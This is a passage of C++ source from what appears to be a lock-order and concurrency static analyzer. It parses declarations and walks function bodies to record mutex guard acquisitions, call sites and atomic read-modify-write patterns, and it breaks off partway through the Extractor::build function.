size_t skip_angles(const std::vector<Tok>& t, size_t i) {
  int depth = 0;
  for (size_t j = i; j < t.size(); ++j) {
    if (t[j].is_punct("<")) {
      ++depth;
    } else if (t[j].is_punct(">")) {
      if (--depth == 0) return j + 1;
    } else if (t[j].is_punct(";") || t[j].is_punct("{") ||
               t[j].is_punct("}")) {
      return i + 1;
    }
  }
  return i + 1;
}

std::string join_tokens(const std::vector<Tok>& t, size_t b, size_t e) {
  std::string out;
  for (size_t k = b; k < e && k < t.size(); ++k) {
    if (!out.empty()) out += ' ';
    out += t[k].text;
  }
  return out;
}

}  // namespace

// ---- declaration pass -----------------------------------------------------

namespace {

struct DeclParser {
  const std::vector<Tok>& t;
  const std::string& file;
  CodeModel& model;
  std::vector<Extractor::PendingBody>* pending;

  void parse_scope(size_t b, size_t e, const std::string& cls) {
    size_t i = b;
    while (i < e) {
      const Tok& tok = at(t, i);
      if (tok.kind == TokKind::kEnd) return;
      if (tok.is_ident("namespace")) {
        size_t j = i + 1;
        while (j < e && !at(t, j).is_punct("{") && !at(t, j).is_punct(";")) {
          ++j;
        }
        if (at(t, j).is_punct("{")) {
          size_t end = skip_balanced(t, j, "{", "}");
          parse_scope(j + 1, end - 1, cls);
          i = end;
        } else {
          i = j + 1;
        }
        continue;
      }
      if (tok.is_ident("template")) {
        i = at(t, i + 1).is_punct("<") ? skip_angles(t, i + 1) : i + 1;
        continue;
      }
      if (tok.is_ident("enum")) {
        i = skip_to_semi(i, e);
        continue;
      }
      if (tok.is_ident("using") || tok.is_ident("typedef") ||
          tok.is_ident("friend") || tok.is_ident("static_assert") ||
          tok.is_ident("extern")) {
        i = skip_to_semi(i, e);
        continue;
      }
      if ((tok.is_ident("public") || tok.is_ident("private") ||
           tok.is_ident("protected")) &&
          at(t, i + 1).is_punct(":")) {
        i += 2;
        continue;
      }
      if (tok.is_ident("class") || tok.is_ident("struct") ||
          tok.is_ident("union")) {
        i = parse_class(i, e, cls);
        continue;
      }
      size_t ni = parse_declaration(i, e, cls);
      i = ni > i ? ni : i + 1;  // always make forward progress
    }
  }

  size_t skip_to_semi(size_t i, size_t e) {
    int pd = 0;
    for (; i < e; ++i) {
      if (at(t, i).is_punct("(") || at(t, i).is_punct("{")) ++pd;
      if (at(t, i).is_punct(")") || at(t, i).is_punct("}")) --pd;
      if (pd <= 0 && at(t, i).is_punct(";")) return i + 1;
    }
    return e;
  }

  size_t parse_class(size_t i, size_t e, const std::string& outer) {
    size_t j = i + 1;
    std::string name;
    if (at(t, j).kind == TokKind::kIdent) {
      name = at(t, j).text;
      ++j;
    }
    // Forward declaration?
    while (j < e && !at(t, j).is_punct("{") && !at(t, j).is_punct(";") &&
           !at(t, j).is_punct("(")) {
      ++j;
    }
    if (!at(t, j).is_punct("{")) {
      // `;` (fwd decl) — or `(` meaning this was a variable/function whose
      // type happened to start with an elaborated specifier; bail to the
      // generic path either way.
      return at(t, j).is_punct(";") ? j + 1 : parse_declaration(i + 1, e,
                                                               outer);
    }
    size_t end = skip_balanced(t, j, "{", "}");
    if (!name.empty()) {
      std::string qual = outer.empty() ? name : outer + "::" + name;
      model.classes[qual].name = qual;
      parse_scope(j + 1, end - 1, qual);
    }
    // Past the closing `}` and the declaration's `;` (plus any declarator
    // idents between, for `struct X { ... } x_;` — none in this codebase).
    size_t k = end;
    while (k < e && !at(t, k).is_punct(";")) ++k;
    return k + 1;
  }

  /// Generic declaration at namespace/class scope: member variable, method
  /// declaration, or function definition (whose body is queued).
  size_t parse_declaration(size_t i, size_t e, const std::string& cls) {
    size_t j = i;
    size_t fname = 0;      // index of the candidate function-name ident
    bool have_params = false;
    size_t params_end = 0;
    while (j < e) {
      const Tok& tok = at(t, j);
      if (tok.is_punct("(")) {
        // Annotation macros (SEPTIC_GUARDED_BY/SEPTIC_REQUIRES...) are not
        // parameter lists: they must neither name the function nor turn an
        // annotated member into a method-looking declaration.
        if (j > i && at(t, j - 1).kind == TokKind::kIdent &&
            at(t, j - 1).text.rfind("SEPTIC_", 0) != 0) {
          fname = j - 1;
          have_params = true;
          j = skip_balanced(t, j, "(", ")");
          params_end = j;
          continue;
        }
        j = skip_balanced(t, j, "(", ")");
        continue;
      }
      if (tok.is_punct("<") && j > i && at(t, j - 1).kind == TokKind::kIdent) {
        j = skip_angles(t, j);
        continue;
      }
      if (tok.is_punct(":") && have_params && j == params_end) {
        // Constructor initializer list: `ident ( ... )` or `ident { ... }`
        // groups separated by commas, then the body brace.
        ++j;
        while (j < e) {
          while (j < e && at(t, j).kind == TokKind::kIdent) ++j;
          if (at(t, j).is_punct("<")) j = skip_angles(t, j);
          if (at(t, j).is_punct("(")) {
            j = skip_balanced(t, j, "(", ")");
          } else if (at(t, j).is_punct("{")) {
            j = skip_balanced(t, j, "{", "}");
          } else {
            break;
          }
          if (at(t, j).is_punct(",")) {
            ++j;
            continue;
          }
          break;
        }
        params_end = j;  // the next `{` is the body
        continue;
      }
      if (tok.is_punct("{")) {
        if (have_params) {
          size_t end = skip_balanced(t, j, "{", "}");
          queue_function(i, fname, j, end, cls);
          return end;
        }
        // Brace initializer of a member (`appends_{0};`) — skip it and
        // keep scanning for the `;`.
        j = skip_balanced(t, j, "{", "}");
        continue;
      }
      if (tok.is_punct(";")) {
        if (!cls.empty() && !have_params) parse_member(i, j, cls);
        return j + 1;
      }
      if (tok.is_punct("}") || tok.kind == TokKind::kEnd) return j;
      ++j;
    }
    return j;
  }

  void queue_function(size_t decl_begin, size_t fname, size_t body_open,
                      size_t body_end, const std::string& cls) {
    if (fname == 0 || at(t, fname).kind != TokKind::kIdent) return;
    std::string name = at(t, fname).text;
    std::string owner = cls;
    size_t ret_end = fname;  // return type tokens end here (exclusive)
    size_t k = fname;
    if (k > decl_begin && at(t, k - 1).is_punct("~")) {
      name = "~" + name;
      --k;
    }
    // Qualified out-of-line definition: `Ret Class::name(...)`.
    std::vector<std::string> quals;
    while (k >= decl_begin + 2 && at(t, k - 1).is_punct("::") &&
           at(t, k - 2).kind == TokKind::kIdent) {
      quals.insert(quals.begin(), at(t, k - 2).text);
      k -= 2;
    }
    ret_end = k;
    if (!quals.empty()) {
      // The last qualifier that names a known class wins; leading ones are
      // namespaces (`storage::wal::WalWriter::append`). Nested classes
      // resolve as Outer::Inner.
      owner.clear();
      for (size_t q = 0; q < quals.size(); ++q) {
        std::string joined = quals[q];
        for (size_t r = q + 1; r < quals.size(); ++r) {
          joined += "::" + quals[r];
        }
        if (model.classes.count(joined) != 0) {
          owner = joined;
          break;
        }
      }
      if (owner.empty()) owner = quals.back();
    }
    std::vector<std::string> ret_idents;
    for (size_t r = decl_begin; r < ret_end; ++r) {
      if (at(t, r).kind == TokKind::kIdent) ret_idents.push_back(at(t, r).text);
    }
    if (!owner.empty()) {
      model.classes[owner].method_return_types[name] = ret_idents;
    } else {
      model.free_return_types[name] = ret_idents;
    }
    Extractor::PendingBody body;
    // Parameter list: per comma segment, the last angle-depth-0 ident
    // before any default (`=`) is the name; the idents before it are the
    // type (lock expressions like `t.mu_` resolve through these).
    if (at(t, fname + 1).is_punct("(")) {
      size_t pclose = skip_balanced(t, fname + 1, "(", ")") - 1;
      size_t seg_b = fname + 2;
      int depth = 0;
      for (size_t p = fname + 2; p <= pclose && p < t.size(); ++p) {
        if (at(t, p).is_punct("(")) ++depth;
        if (at(t, p).is_punct(")") && p != pclose) --depth;
        if (p != pclose && !(depth == 0 && at(t, p).is_punct(","))) continue;
        int angle = 0;
        size_t name_idx = 0;
        for (size_t q = seg_b; q < p; ++q) {
          const Tok& tok = at(t, q);
          if (tok.is_punct("<") && q > seg_b &&
              at(t, q - 1).kind == TokKind::kIdent) {
            ++angle;
            continue;
          }
          if (tok.is_punct(">") && angle > 0) {
            --angle;
            continue;
          }
          if (angle > 0) continue;
          if (tok.is_punct("=")) break;
          if (tok.kind == TokKind::kIdent && !tok.is_ident("const")) {
            name_idx = q;
          }
        }
        if (name_idx > seg_b) {
          std::vector<std::string> type_idents;
          for (size_t q = seg_b; q < name_idx; ++q) {
            if (at(t, q).kind == TokKind::kIdent && !at(t, q).is_ident("const")) {
              type_idents.push_back(at(t, q).text);
            }
          }
          if (!type_idents.empty()) {
            body.params[at(t, name_idx).text] = std::move(type_idents);
          }
        }
        seg_b = p + 1;
      }
    }
    body.qualified = owner.empty() ? name : owner + "::" + name;
    body.cls = owner;
    body.file = file;
    body.line = at(t, fname).line;
    body.toks.assign(t.begin() + static_cast<long>(body_open),
                     t.begin() + static_cast<long>(body_end));
    pending->push_back(std::move(body));
  }

  void parse_member(size_t b, size_t semi, const std::string& cls) {
    // Walk back from `;` to the member name, skipping trailing annotation
    // macros (`SEPTIC_GUARDED_BY(mu_)`) and initializers.
    size_t k = semi;
    auto prev_is = [&](size_t idx, const char* p) {
      return idx > b && at(t, idx - 1).is_punct(p);
    };
    for (;;) {
      if (prev_is(k, ")")) {
        // Balanced-skip backwards over (...) to the ident before it.
        int depth = 0;
        size_t j = k - 1;
        for (; j > b; --j) {
          if (at(t, j).is_punct(")")) ++depth;
          if (at(t, j).is_punct("(") && --depth == 0) break;
        }
        if (j > b && at(t, j - 1).kind == TokKind::kIdent &&
            at(t, j - 1).text.rfind("SEPTIC_", 0) == 0) {
          k = j - 1;
          continue;
        }
        return;  // parenthesized declarator / method-ish: not a member
      }
      break;
    }
    // `= init` and `{init}` initializers: the name sits before them.
    int angle = 0;
    size_t name_idx = 0;
    for (size_t j = b; j < k; ++j) {
      const Tok& tok = at(t, j);
      if (tok.is_punct("<") && j > b && at(t, j - 1).kind == TokKind::kIdent) {
        ++angle;
        continue;
      }
      if (tok.is_punct(">") && angle > 0) {
        --angle;
        continue;
      }
      if (angle > 0) continue;
      if (tok.is_punct("=") || tok.is_punct("{")) break;
      if (tok.kind == TokKind::kIdent && !tok.is_ident("const") &&
          !tok.is_ident("mutable") && !tok.is_ident("static") &&
          !tok.is_ident("constexpr") && !tok.is_ident("inline") &&
          !tok.is_ident("volatile")) {
        name_idx = j;
      }
    }
    if (name_idx == 0) return;
    std::string name = at(t, name_idx).text;
    ClassModel& cm = model.classes[cls];
    cm.name = cls;
    bool is_mutex = false;
    bool is_atomic = false;
    std::vector<std::string> type_idents;
    int ta = 0;
    for (size_t j = b; j < name_idx; ++j) {
      const Tok& tok = at(t, j);
      if (tok.is_punct("<") && j > b && at(t, j - 1).kind == TokKind::kIdent) {
        ++ta;
      } else if (tok.is_punct(">") && ta > 0) {
        --ta;
      }
      if (tok.kind != TokKind::kIdent) continue;
      if (ta == 0 && is_mutex_type_ident(tok.text)) is_mutex = true;
      if (ta == 0 && tok.is_ident("atomic")) is_atomic = true;
      type_idents.push_back(tok.text);
    }
    if (is_mutex) {
      cm.mutex_members.insert(name);
    } else if (is_atomic) {
      cm.atomic_members.insert(name);
    } else if (!type_idents.empty()) {
      cm.member_types[name] = std::move(type_idents);
    }
  }
};

}  // namespace

void Extractor::add_file(const std::string& path, const std::string& source) {
  std::string stripped = strip_preprocessor(source);
  std::vector<Tok> toks = lex_cpp(stripped);
  ++model_.files_scanned;
  DeclParser parser{toks, path, model_, &pending_};
  parser.parse_scope(0, toks.size(), "");
}

// ---- body pass ------------------------------------------------------------

namespace {

struct BodyWalker {
  const Extractor::PendingBody& body;
  CodeModel& model;
  FunctionModel& fn;

  struct Guard {
    std::string lock;  // resolved LockId or raw text
    bool resolved = false;
    bool held = false;
    bool try_lock = false;
    bool shared = false;
  };
  struct Scope {
    std::vector<std::string> guard_names;
    std::vector<std::string> local_names;
  };
  std::vector<Scope> scopes = {};
  std::map<std::string, Guard> guards = {};
  // name -> type ids
  std::map<std::string, std::vector<std::string>> locals = {};
  std::vector<std::string> held = {};  // resolved locks, acquisition order

  const std::vector<Tok>& t() const { return body.toks; }

  std::vector<LockId> snapshot() const { return held; }

  void hold(const std::string& lock) { held.push_back(lock); }
  void release(const std::string& lock) {
    auto it = std::find(held.rbegin(), held.rend(), lock);
    if (it != held.rend()) held.erase(std::next(it).base());
  }

  /// Last ident of `idents` that names a known class ("Ctx::T" nested
  /// first, then "T"); empty when none do.
  std::string resolve_type(const std::string& ctx,
                           const std::vector<std::string>& idents) const {
    for (auto it = idents.rbegin(); it != idents.rend(); ++it) {
      if (*it == "auto" || *it == "const" || *it == "std") continue;
      if (!ctx.empty() && model.classes.count(ctx + "::" + *it) != 0) {
        return ctx + "::" + *it;
      }
      if (model.classes.count(*it) != 0) return *it;
    }
    return "";
  }

  /// Class of a chain head identifier: local var, member of the enclosing
  /// class, `this`, or a class name (static call). Empty = unresolved.
  std::string head_class(const std::string& name) const {
    auto lit = locals.find(name);
    if (lit != locals.end()) return resolve_type(body.cls, lit->second);
    if (name == "this") return body.cls;
    if (!body.cls.empty()) {
      auto cit = model.classes.find(body.cls);
      if (cit != model.classes.end()) {
        auto mit = cit->second.member_types.find(name);
        if (mit != cit->second.member_types.end()) {
          return resolve_type(body.cls, mit->second);
        }
      }
    }
    if (model.classes.count(name) != 0) return name;
    if (!body.cls.empty() &&
        model.classes.count(body.cls + "::" + name) != 0) {
      return body.cls + "::" + name;
    }
    return "";
  }

  std::string member_class(const std::string& cls,
                           const std::string& member) const {
    auto cit = model.classes.find(cls);
    if (cit == model.classes.end()) return "";
    auto mit = cit->second.member_types.find(member);
    if (mit == cit->second.member_types.end()) return "";
    return resolve_type(cls, mit->second);
  }

  /// Resolve a lock expression (the guard's first constructor argument) to
  /// a LockId. Handles `mu_`, `obj.mu`, `chain->obj.mu`, and accessor
  /// calls `owner.accessor()` whose body is `return mutex_member;`.
  bool resolve_lock_expr(size_t b, size_t e, std::string* out) const {
    std::vector<std::string> names;
    bool call = false;
    for (size_t i = b; i < e; ++i) {
      const Tok& tok = at(t(), i);
      if (tok.kind == TokKind::kIdent) {
        names.push_back(tok.text);
      } else if (tok.is_punct(".") || tok.is_punct("->") ||
                 tok.is_punct("*") || tok.is_punct("&")) {
        continue;
      } else if (tok.is_punct("(") && i + 1 < e && at(t(), i + 1).is_punct(")")) {
        call = true;
        ++i;
      } else {
        return false;  // arithmetic / indexing — not a lock expression
      }
    }
    if (names.empty()) return false;
    if (names.size() == 1) {
      if (call) return false;
      if (body.cls.empty()) return false;
      auto cit = model.classes.find(body.cls);
      if (cit != model.classes.end() &&
          cit->second.mutex_members.count(names[0]) != 0) {
        *out = body.cls + "::" + names[0];
        return true;
      }
      return false;
    }
    std::string cls = head_class(names[0]);
    if (cls.empty()) return false;
    for (size_t k = 1; k + 1 < names.size(); ++k) {
      cls = member_class(cls, names[k]);
      if (cls.empty()) return false;
    }
    auto cit = model.classes.find(cls);
    if (cit == model.classes.end()) return false;
    const std::string& last = names.back();
    if (call) {
      auto ait = cit->second.mutex_accessors.find(last);
      if (ait == cit->second.mutex_accessors.end()) return false;
      *out = cls + "::" + ait->second;
      return true;
    }
    if (cit->second.mutex_members.count(last) != 0) {
      *out = cls + "::" + last;
      return true;
    }
    return false;
  }

  void acquire(const std::string& lock, bool resolved, bool try_lock,
               bool shared, int line) {
    AcquireEvent ev;
    ev.lock = lock;
    ev.resolved = resolved;
    ev.try_lock = try_lock;
    ev.shared = shared;
    ev.held = snapshot();
    ev.line = line;
    fn.acquires.push_back(std::move(ev));
    if (resolved) hold(lock);
  }

  // ---- the walk -----------------------------------------------------------

  void walk() {
    scopes.push_back({});
    for (const auto& [name, type_idents] : body.params) {
      locals[name] = type_idents;
      scopes.back().local_names.push_back(name);
    }
    size_t stmt_start = 1;
    size_t i = 1;  // past the opening `{`
    size_t end = t().size() > 1 ? t().size() - 1 : 0;  // before closing `}`
    while (i < end) {
      const Tok& tok = at(t(), i);
      if (tok.is_punct("{")) {
        scopes.push_back({});
        ++i;
        stmt_start = i;
        continue;
      }
      if (tok.is_punct("}")) {
        pop_scope();
        ++i;
        stmt_start = i;
        continue;
      }
      if (tok.is_punct(";")) {
        check_atomic_rmw(stmt_start, i);
        ++i;
        stmt_start = i;
        continue;
      }
      if (tok.kind == TokKind::kIdent && is_failpoint_ident(tok.text)) {
        fn.has_failpoint = true;
      }
      // `std::thread(<lambda>)`: the argument runs on a NEW thread with an
      // empty lock context, so the inline-lambda approximation (sound for
      // synchronous callbacks) would be wrong here. Skip the whole
      // argument list; the member functions the lambda calls are analyzed
      // in their own right.
      if (tok.is_ident("std") && at(t(), i + 1).is_punct("::") &&
          (at(t(), i + 2).is_ident("thread") ||
           at(t(), i + 2).is_ident("jthread")) &&
          at(t(), i + 3).is_punct("(")) {
        i = skip_balanced(t(), i + 3, "(", ")");
        continue;
      }
      // Guard declaration: std::lock_guard [<...>] name(expr, ...);
      if (tok.is_ident("std") && at(t(), i + 1).is_punct("::") &&
          at(t(), i + 2).kind == TokKind::kIdent &&
          is_guard_class(at(t(), i + 2).text)) {
        size_t consumed = parse_guard_decl(i);
        if (consumed != 0) {
          i = consumed;
          continue;
        }
      }
      // Local declarations that later lock expressions resolve through.
      if (is_stmt_start(i, stmt_start)) try_local_decl(i);
      // guard.unlock() / guard.lock() / mutex.lock() / mutex.unlock().
      if (tok.kind == TokKind::kIdent &&
          (tok.text == "lock" || tok.text == "unlock") &&
          at(t(), i + 1).is_punct("(") && i > 0 &&
          (at(t(), i - 1).is_punct(".") || at(t(), i - 1).is_punct("->"))) {
        size_t consumed = parse_lock_call(i);
        if (consumed != 0) {
          i = consumed;
          continue;
        }
      }
      // Plain call sites.
      if (tok.kind == TokKind::kIdent && at(t(), i + 1).is_punct("(") &&
          keywords().count(tok.text) == 0 && !is_guard_class(tok.text)) {
        record_call(i);
      }
      ++i;
    }
    while (!scopes.empty()) pop_scope();
  }

  bool is_stmt_start(size_t i, size_t stmt_start) const {
    if (i == stmt_start) return true;
    // for-init declarations: `for (Type x = ...;`.
    return i >= 2 && at(t(), i - 1).is_punct("(") &&
           at(t(), i - 2).is_ident("for");
  }

  void pop_scope() {
    if (scopes.empty()) return;
    for (const std::string& g : scopes.back().guard_names) {
      auto it = guards.find(g);
      if (it != guards.end()) {
        if (it->second.held && it->second.resolved) release(it->second.lock);
        guards.erase(it);
      }
    }
    for (const std::string& l : scopes.back().local_names) locals.erase(l);
    scopes.pop_back();
  }

  /// Returns the index just past the declaration, or 0 if not one.
  size_t parse_guard_decl(size_t i) {
    const std::string& guard_cls = at(t(), i + 2).text;
    size_t j = i + 3;
    if (at(t(), j).is_punct("<")) j = skip_angles(t(), j);
    if (at(t(), j).kind != TokKind::kIdent) return 0;
    std::string var = at(t(), j).text;
    ++j;
    if (!at(t(), j).is_punct("(")) return 0;
    size_t close = skip_balanced(t(), j, "(", ")");
    // Split the argument list at top-level commas.
    std::vector<std::pair<size_t, size_t>> args;
    size_t arg_b = j + 1;
    int depth = 0;
    for (size_t k = j + 1; k + 1 < close; ++k) {
      if (at(t(), k).is_punct("(")) ++depth;
      if (at(t(), k).is_punct(")")) --depth;
      if (depth == 0 && at(t(), k).is_punct(",")) {
        args.push_back({arg_b, k});
        arg_b = k + 1;
      }
    }
    if (arg_b < close - 1) args.push_back({arg_b, close - 1});
    if (args.empty()) return 0;
    int line = at(t(), i).line;
    bool shared = guard_cls == "shared_lock";
    if (guard_cls == "scoped_lock") {
      // std::scoped_lock acquires its operands deadlock-free (std::lock),
      // so they order against the outer held set but not each other.
      std::vector<LockId> outer = snapshot();
      std::vector<std::string> acquired;
      for (auto [ab, ae] : args) {
        std::string lock;
        bool ok = resolve_lock_expr(ab, ae, &lock);
        AcquireEvent ev;
        ev.lock = ok ? lock : join_tokens(t(), ab, ae);
        ev.resolved = ok;
        ev.shared = false;
        ev.held = outer;
        ev.line = line;
        fn.acquires.push_back(std::move(ev));
        if (ok) acquired.push_back(lock);
      }
      for (const std::string& l : acquired) hold(l);
      Guard g;
      g.lock = acquired.empty() ? "" : acquired[0];
      g.resolved = false;  // released via scope pop below
      guards[var] = g;
      // Scope pop must release every acquired lock: record extra guards.
      for (size_t k = 0; k < acquired.size(); ++k) {
        std::string pseudo = var + "#" + std::to_string(k);
        Guard pg;
        pg.lock = acquired[k];
        pg.resolved = true;
        pg.held = true;
        guards[pseudo] = pg;
        scopes.back().guard_names.push_back(pseudo);
      }
      scopes.back().guard_names.push_back(var);
      return close;
    }
    bool try_lock = false;
    bool defer = false;
    for (size_t a = 1; a < args.size(); ++a) {
      std::string text = join_tokens(t(), args[a].first, args[a].second);
      if (text.find("try_to_lock") != std::string::npos) try_lock = true;
      if (text.find("defer_lock") != std::string::npos) defer = true;
    }
    std::string lock;
    bool ok = resolve_lock_expr(args[0].first, args[0].second, &lock);
    Guard g;
    g.lock = ok ? lock : join_tokens(t(), args[0].first, args[0].second);
    g.resolved = ok;
    g.try_lock = try_lock;
    g.shared = shared;
    if (!defer) {
      acquire(g.lock, ok, try_lock, shared, line);
      g.held = true;
    }
    guards[var] = g;
    scopes.back().guard_names.push_back(var);
    return close;
  }

  /// `recv.lock()` / `recv.unlock()`: guard variable or direct mutex.
  /// i points at the `lock`/`unlock` ident. Returns past the call, or 0.
  size_t parse_lock_call(size_t i) {
    bool is_lock = at(t(), i).text == "lock";
    size_t close = skip_balanced(t(), i + 1, "(", ")");
    // Single-ident receiver: `lk.unlock()` or `mu_.lock()`.
    if (i >= 2 && at(t(), i - 2).kind == TokKind::kIdent &&
        (i < 3 || !at(t(), i - 3).is_punct(".")) &&
        (i < 3 || !at(t(), i - 3).is_punct("->"))) {
      const std::string& recv = at(t(), i - 2).text;
      auto git = guards.find(recv);
      if (git != guards.end()) {
        Guard& g = git->second;
        if (is_lock && !g.held) {
          acquire(g.lock, g.resolved, /*try_lock=*/false, g.shared,
                  at(t(), i).line);
          g.held = true;
        } else if (!is_lock && g.held) {
          if (g.resolved) release(g.lock);
          g.held = false;
        }
        return close;
      }
      std::string lock;
      if (resolve_lock_expr(i - 2, i - 1, &lock)) {
        if (is_lock) {
          acquire(lock, true, false, false, at(t(), i).line);
        } else {
          release(lock);
        }
        return close;
      }
    }
    return 0;  // fall through: recorded as an ordinary (unresolvable) call
  }

  void try_local_decl(size_t i) {
    // `auto&? name = call(...)` — type from the callee's return type.
    if (at(t(), i).is_ident("auto") || at(t(), i).is_ident("const")) {
      size_t j = i;
      if (at(t(), j).is_ident("const")) ++j;
      if (!at(t(), j).is_ident("auto")) {
        try_typed_local(i);
        return;
      }
      ++j;
      while (at(t(), j).is_punct("&") || at(t(), j).is_punct("*")) ++j;
      if (at(t(), j).kind != TokKind::kIdent) return;
      // Range-for: `for (auto& s : shards_)` — the element type is the
      // container member's type idents (resolve_type picks the last ident
      // naming a class, i.e. the element class of std::vector<Shard>).
      if (at(t(), j + 1).is_punct(":")) {
        std::string name = at(t(), j).text;
        size_t k = j + 2;
        if (at(t(), k).kind == TokKind::kIdent && !body.cls.empty()) {
          auto cit = model.classes.find(body.cls);
          if (cit != model.classes.end()) {
            auto mit = cit->second.member_types.find(at(t(), k).text);
            if (mit != cit->second.member_types.end()) {
              locals[name] = mit->second;
              scopes.back().local_names.push_back(name);
            }
          }
        }
        return;
      }
      if (!at(t(), j + 1).is_punct("=")) return;
      std::string name = at(t(), j).text;
      // Initializer: [recv . / ->]* fn ( — find the ident before the `(`.
      size_t k = j + 2;
      std::vector<std::string> chain;
      while (at(t(), k).kind == TokKind::kIdent) {
        chain.push_back(at(t(), k).text);
        ++k;
        if (at(t(), k).is_punct(".") || at(t(), k).is_punct("->") ||
            at(t(), k).is_punct("::")) {
          ++k;
          continue;
        }
        break;
      }
      if (chain.empty() || !at(t(), k).is_punct("(")) return;
      std::vector<std::string> ret;
      if (chain.size() == 1) {
        auto fit = model.free_return_types.find(chain[0]);
        if (fit != model.free_return_types.end()) {
          ret = fit->second;
        } else if (!body.cls.empty()) {
          auto cit = model.classes.find(body.cls);
          if (cit != model.classes.end()) {
            auto mit = cit->second.method_return_types.find(chain[0]);
            if (mit != cit->second.method_return_types.end()) ret = mit->second;
          }
        }
      } else {
        std::string cls = head_class(chain[0]);
        for (size_t c = 1; !cls.empty() && c + 1 < chain.size(); ++c) {
          cls = member_class(cls, chain[c]);
        }
        if (!cls.empty()) {
          auto cit = model.classes.find(cls);
          if (cit != model.classes.end()) {
            auto mit = cit->second.method_return_types.find(chain.back());
            if (mit != cit->second.method_return_types.end()) ret = mit->second;
          }
        }
      }
      if (!ret.empty()) {
        locals[name] = ret;
        scopes.back().local_names.push_back(name);
      }
      return;
    }
    try_typed_local(i);
  }

  /// `ClassName&? name ( | = | { | ;` with a known class type.
  void try_typed_local(size_t i) {
    size_t j = i;
    if (at(t(), j).is_ident("const")) ++j;
    std::vector<std::string> type_idents;
    while (at(t(), j).kind == TokKind::kIdent &&
           keywords().count(at(t(), j).text) == 0) {
      type_idents.push_back(at(t(), j).text);
      ++j;
      if (at(t(), j).is_punct("::")) {
        ++j;
        continue;
      }
      break;
    }
    if (type_idents.empty()) return;
    // Keep template-argument idents, same as parameter types do: a
    // `std::shared_ptr<Connection>& conn` local must resolve `conn->mu_`
    // through Connection, not fail on shared_ptr.
    if (at(t(), j).is_punct("<")) {
      size_t close = skip_angles(t(), j);
      for (size_t q = j + 1; q + 1 < close; ++q) {
        if (at(t(), q).kind == TokKind::kIdent &&
            keywords().count(at(t(), q).text) == 0) {
          type_idents.push_back(at(t(), q).text);
        }
      }
      j = close;
    }
    while (at(t(), j).is_punct("&") || at(t(), j).is_punct("*")) ++j;
    if (at(t(), j).kind != TokKind::kIdent) return;
    std::string name = at(t(), j).text;
    ++j;
    // `:` covers typed range-for locals (`for (const Shard& s : shards_)`).
    if (!at(t(), j).is_punct("=") && !at(t(), j).is_punct("(") &&
        !at(t(), j).is_punct("{") && !at(t(), j).is_punct(";") &&
        !at(t(), j).is_punct(":")) {
      return;
    }
    if (resolve_type(body.cls, type_idents).empty()) return;
    locals[name] = type_idents;
    scopes.back().local_names.push_back(name);
  }

  void record_call(size_t i) {
    const std::string& name = at(t(), i).text;
    if (name.rfind("SEPTIC_", 0) == 0) return;
    CallEvent ev;
    ev.line = at(t(), i).line;
    ev.held = snapshot();
    if (ev.held.empty()) {
      // Calls made with nothing held cannot create ordering pairs here;
      // the callee's own behavior is checked when the callee is analyzed.
      // Recording them anyway keeps the call graph complete for the
      // blocking-set propagation, so fall through.
    }
    // Receiver chain (walk back over `a.b->c.`).
    std::vector<std::string> chain;
    size_t j = i;
    bool static_call = false;
    while (j >= 2 && (at(t(), j - 1).is_punct(".") ||
                      at(t(), j - 1).is_punct("->") ||
                      at(t(), j - 1).is_punct("::"))) {
      if (at(t(), j - 1).is_punct("::")) static_call = true;
      if (at(t(), j - 2).kind != TokKind::kIdent) return;  // `)(`, `](` ...
      chain.insert(chain.begin(), at(t(), j - 2).text);
      j -= 2;
    }
    if (!chain.empty() && chain[0] == "std") return;
    if (chain.empty()) {
      // Constructor-style local `PagedFile pf(...)` — `pf` is no call.
      if (j >= 1 && at(t(), j - 1).kind == TokKind::kIdent) return;
      if (!body.cls.empty()) ev.callees.push_back(body.cls + "::" + name);
      ev.callees.push_back(name);
    } else if (static_call) {
      // `A::B::name(...)`: try class-qualified suffixes, then the bare
      // name (namespace-qualified free function).
      for (size_t c = 0; c < chain.size(); ++c) {
        std::string joined = chain[c];
        for (size_t r = c + 1; r < chain.size(); ++r) joined += "::" + chain[r];
        ev.callees.push_back(joined + "::" + name);
      }
      ev.callees.push_back(name);
    } else {
      std::string cls = head_class(chain[0]);
      for (size_t c = 1; !cls.empty() && c < chain.size(); ++c) {
        cls = member_class(cls, chain[c]);
      }
      if (cls.empty()) return;
      ev.callees.push_back(cls + "::" + name);
    }
    fn.calls.push_back(std::move(ev));
  }

  void check_atomic_rmw(size_t b, size_t e) {
    if (body.cls.empty()) return;
    auto cit = model.classes.find(body.cls);
    if (cit == model.classes.end() || cit->second.atomic_members.empty()) {
      return;
    }
    for (const std::string& m : cit->second.atomic_members) {
      bool load = false, store = false;
      size_t first = 0;
      bool seen = false;
      size_t assign = 0;
      int depth = 0;
      for (size_t j = b; j < e; ++j) {
        if (at(t(), j).is_punct("(")) ++depth;
        if (at(t(), j).is_punct(")")) --depth;
        if (at(t(), j).kind == TokKind::kIdent && at(t(), j).text == m) {
          // Member access `x.m` on another object is a different field.
          if (j > b && (at(t(), j - 1).is_punct(".") ||
                        at(t(), j - 1).is_punct("->"))) {
            continue;
          }
          if (!seen) {
            first = j;
            seen = true;
          }
          if (at(t(), j + 1).is_punct(".") &&
              at(t(), j + 2).kind == TokKind::kIdent) {
            if (at(t(), j + 2).text == "load") load = true;
            if (at(t(), j + 2).text == "store") store = true;
          }
          if (assign != 0 && j > assign) {
            // `m = ... m ...` — plain RMW through the implicit conversions.
            fn.rmws.push_back({m, at(t(), j).line});
            return;
          }
        }
        if (depth == 0 && at(t(), j).is_punct("=") && seen && assign == 0 &&
            j == first + 1) {
          assign = j;
        }
      }
      if (load && store) {
        fn.rmws.push_back({m, at(t(), first).line});
        return;
      }
    }
  }
};

}  // namespace

void Extractor::analyze_body(const PendingBody& body) {
  FunctionModel& fn = model_.functions[body.qualified];
  if (fn.qualified.empty()) {
    fn.qualified = body.qualified;
    fn.cls = body.cls;
    fn.file = body.file;
    fn.line = body.line;
  }
  BodyWalker walker{body, model_, fn};
  walker.walk();
}

CodeModel Extractor::build() {
  // Accessor detection needs every class parsed first: a body of exactly
  // `{ return member_; }` where member_ is a mutex member registers the
  // method as a mutex accessor (resolves `txn_mgr_.commit_mu()`).
  for (const PendingBody& b : pending_) {
    if (b.cls.empty() || b.toks.size() != 5) continue;
    if (!b.toks[1].is_ident("return") || b.toks[2].kind != TokKind::kIdent ||
        !b.toks[3].is_punct(";")) {
      continue;
    }
    ClassModel& cm = model_.classes[b.cls];
    if (cm.mutex_members.count(b.toks[2].text) != 0) {
      size_t pos = b.qualified.rfind("::");
